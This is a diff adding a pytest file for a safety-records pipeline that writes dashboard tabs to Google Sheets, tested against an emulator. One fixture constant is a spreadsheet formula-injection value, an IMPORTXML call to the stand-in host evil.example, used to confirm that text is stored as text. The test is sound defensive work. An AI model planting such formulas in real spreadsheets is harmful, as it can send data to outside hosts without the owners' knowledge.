@@ -1,0 +1,167 @@
+"""Writing the Dashboard tabs: constant requests, RAW text, nothing else touched, atomic."""
+
+from __future__ import annotations
+
+import re
+from datetime import date, datetime
+
+import pandas as pd
+import pytest
+
+from jobs.sync import run_sync
+from pipeline.errors import SecorError
+from pipeline.outputs.dashboard import DATA_ISSUES, SUMMARY, TAB_NAMES, Sheet
+from pipeline.outputs.sheets import cell, serial
+
+from .data import FORMS, FORMS_KEY, OFFICE, OFFICE_KEY
+from .emulator import ACCOUNT
+
+FORMULA = '=IMPORTXML("http://evil.example/x", "//a")'
+
+
+def sheets(n: int) -> tuple[Sheet, ...]:
+    """The five tabs with ``n`` rows on Data Issues and Deficiencies."""
+    issues = pd.DataFrame({
+        "Table": ["FLHA"] * n, "Row": list(range(2, n + 2)), "Column": ["Hazards"] * n,
+        "Value": [FORMULA if i == 0 else f"text {i}" for i in range(n)], "Problem": ["required value is blank"] * n})
+    deficiencies = pd.DataFrame({
+        "ID": [f"PS-{i}" for i in range(n)], "Source": ["Pre-Start"] * n,
+        "Found": [pd.Timestamp(2026, 9, 1)] * n, "Description": ["+1 brake light"] * n,
+        "Unit Or Site": ["T-12"] * n, "Assigned To": [None] * n, "Due": [pd.NaT] * n,
+        "Age Days": [float(i) for i in range(n)], "Status": ["Overdue" if i % 2 else "Open" for i in range(n)]})
+    summary = pd.DataFrame([("Company", "Acme", "", ""), ("As of", date(2026, 10, 31), "", ""),
+                            ("Last run", datetime(2026, 10, 31, 6, 0, 5), "", ""), ("", "", "", ""),
+                            ("Expired tickets", 2, "Expired", "")], columns=["Item", "Value", "Status", "Detail"])
+    empty = pd.DataFrame(columns=["Worker", "Role", "Ticket", "Status", "Completed", "Expires", "Days Left"])
+    readiness = pd.DataFrame([("Element 1", "E1.1 Safety policy", "Fail", "none", "")],
+                             columns=["Element", "Check", "Status", "Detail", "Records"])
+    return (Sheet(TAB_NAMES[0], summary, "Status"), Sheet(TAB_NAMES[1], empty, "Status"),
+            Sheet(TAB_NAMES[2], deficiencies, "Status"), Sheet(TAB_NAMES[3], readiness, "Status"),
+            Sheet(TAB_NAMES[4], issues, None))
+
+
+def office(emulator):
+    return emulator.add_spreadsheet(OFFICE_KEY, "Office records", OFFICE)
+
+
+def test_write_costs_the_same_requests_for_10_and_10000_rows(emulator, make_source):
+    book = office(emulator)
+    src = make_source([OFFICE_KEY], timeout_seconds=30.0)
+    counts = []
+    for n in (10, 10_000, 10):
+        emulator.clear_log()
+        written = src.write_dashboards(sheets(n))
+        calls = emulator.api_requests()
+        counts.append(len(calls))
+        assert [(c["method"], c["path"].rsplit("/", 1)[-1]) for c in calls] == [
+            ("GET", OFFICE_KEY), ("POST", f"{OFFICE_KEY}:batchUpdate")]
+        assert len(written) == 5 and all("docs.google.com/spreadsheets/d/" in w for w in written)
+        assert book.tab(DATA_ISSUES).rows()[-1][3] == f"text {n - 1}"
+        assert len(book.tab(DATA_ISSUES).rows()) == n + 1  # the 10,000 rows of the previous run are gone
+        assert book.tab(DATA_ISSUES).grid["rowCount"] == n + 1
+    assert counts == [2, 2, 2]
+
+
+def test_text_is_written_as_text_never_as_a_formula(emulator, make_source):
+    book = office(emulator)
+    make_source([OFFICE_KEY]).write_dashboards(sheets(3))
+    tab = book.tab(DATA_ISSUES)
+    assert tab.value(1, 3) == FORMULA
+    assert tab.entered_kind(1, 3) == "stringValue"
+    defs = book.tab(TAB_NAMES[2])
+    assert defs.entered_kind(1, 3) == "stringValue" and defs.value(1, 3) == "+1 brake light"
+    assert defs.value(1, 2) == serial(date(2026, 9, 1))  # a date is a serial number with a date format
+    assert defs.cells[(1, 2)]["userEnteredFormat"]["numberFormat"]["type"] == "DATE"
+    assert defs.value(1, 7) == 0 and defs.entered_kind(1, 7) == "numberValue"
+    assert (1, 6) not in defs.cells  # NaT is an empty cell, not "NaT"
+    assert defs.cells[(2, 8)]["userEnteredFormat"]["backgroundColor"]["red"] > 0.9  # Overdue is red
+    assert tab.cells[(0, 0)]["userEnteredFormat"]["textFormat"]["bold"] is True
+    assert tab.properties["gridProperties"]["frozenRowCount"] == 1
+
+
+def test_no_other_tab_cell_or_format_is_touched(emulator, make_source):
+    book = office(emulator)
+    before = {t.title: emulator.snapshot(OFFICE_KEY, t.title) for t in book.tabs}
+    src = make_source([OFFICE_KEY])
+    src.write_dashboards(sheets(5))
+    src.write_dashboards(sheets(50))
+    assert [t.title for t in book.tabs] == [*OFFICE, *TAB_NAMES]
+    for title, text in before.items():
+        assert emulator.snapshot(OFFICE_KEY, title) == text, title
+    for entry in emulator.api_requests():
+        for request in (entry.get("body") or {}).get("requests", []):
+            (kind, args), = request.items()
+            ids = {v for k, v in _walk(args) if k == "sheetId"}
+            assert ids <= {t.sheet_id for t in book.tabs if t.title in TAB_NAMES}, kind
+
+
+def _walk(node):
+    if isinstance(node, dict):
+        for k, v in node.items():
+            yield k, v
+            yield from _walk(v)
+    elif isinstance(node, list):
+        for v in node:
+            yield from _walk(v)
+
+
+def test_dashboard_tab_carries_last_refreshed_stamp(emulator, make_source):
+    book = office(emulator)
+    make_source([OFFICE_KEY]).write_dashboards(sheets(1))
+    header = book.tab(SUMMARY).rows()[0]
+    assert header[:4] == ["Item", "Value", "Status", "Detail"]
+    assert header[5] == "Last refreshed" and isinstance(header[6], float) and header[6] > serial(date(2025, 1, 1))
+
+
+def test_a_failed_write_leaves_the_previous_dashboards_whole(emulator, make_source):
+    book = office(emulator)
+    src = make_source([OFFICE_KEY], max_attempts=2)
+    src.write_dashboards(sheets(20))
+    before = {t: emulator.snapshot(OFFICE_KEY, t) for t in TAB_NAMES}
+    emulator.inject("500", 2, path=":batchUpdate")
+    with pytest.raises(SecorError, match=r"did not answer POST .*:batchUpdate after 2 attempt"):
+        src.write_dashboards(sheets(3))
+    assert {t: emulator.snapshot(OFFICE_KEY, t) for t in TAB_NAMES} == before
+    assert len(book.tab(DATA_ISSUES).rows()) == 21
+
+
+def test_a_write_applied_after_the_client_timed_out_is_not_doubled(emulator, make_source):
+    """The batch that adds the tabs times out but Google applied it: the retry rebuilds without addSheet."""
+    book = office(emulator)
+    emulator.inject("slow", 1, delay=0.8, path=":batchUpdate")
+    make_source([OFFICE_KEY]).write_dashboards(sheets(4))
+    assert [t.title for t in book.tabs].count(SUMMARY) == 1
+    assert len(book.tab(DATA_ISSUES).rows()) == 5
+
+
+def test_write_into_a_spreadsheet_not_shared_as_editor(emulator, make_source):
+    emulator.add_spreadsheet(OFFICE_KEY, "Office records", OFFICE, shared=False)
+    with pytest.raises(SecorError, match=re.escape(f"Share it with {ACCOUNT} as Editor")):
+        make_source([OFFICE_KEY]).write_dashboards(sheets(1))
+
+
+def test_sync_reads_and_writes_in_six_requests(emulator, make_settings):
+    emulator.add_spreadsheet(OFFICE_KEY, "Office records", OFFICE)
+    emulator.add_spreadsheet(FORMS_KEY, "Forms", FORMS)
+    settings = make_settings([OFFICE_KEY, FORMS_KEY])
+    result = run_sync(settings, as_of=date(2026, 10, 31))
+    assert len(emulator.api_requests()) == 6  # 2 per spreadsheet read + 2 to write
+    assert len(result.written) == 5
+    book = emulator.spreadsheets[OFFICE_KEY]
+    assert book.tab(SUMMARY).rows()[1][:2] == ["Company", "Demo Company"]
+    assert book.tab(TAB_NAMES[1]).rows()[0] == ["Worker", "Role", "Ticket", "Status", "Completed", "Expires",
+                                                 "Days Left"]
+    emulator.clear_log()
+    run_sync(settings, as_of=date(2026, 10, 31))  # the dashboards are not read back as sources
+    assert len(emulator.api_requests()) == 6
+
+
+def test_cell_values_are_serialised_deliberately():
+    import numpy as np
+
+    assert cell(np.int64(3)) == {"userEnteredValue": {"numberValue": 3}}
+    assert cell(float("nan")) == {} and cell(pd.NaT) == {} and cell(None) == {} and cell("") == {}
+    assert cell(np.bool_(True)) == {"userEnteredValue": {"boolValue": True}}
+    assert cell(float("inf")) == {"userEnteredValue": {"stringValue": "inf"}}
+    assert cell(pd.Timestamp(2026, 1, 2, 3, 4))["userEnteredFormat"]["numberFormat"]["type"] == "DATE_TIME"
+    assert len(cell("x" * 60_000)["userEnteredValue"]["stringValue"]) == 50_000
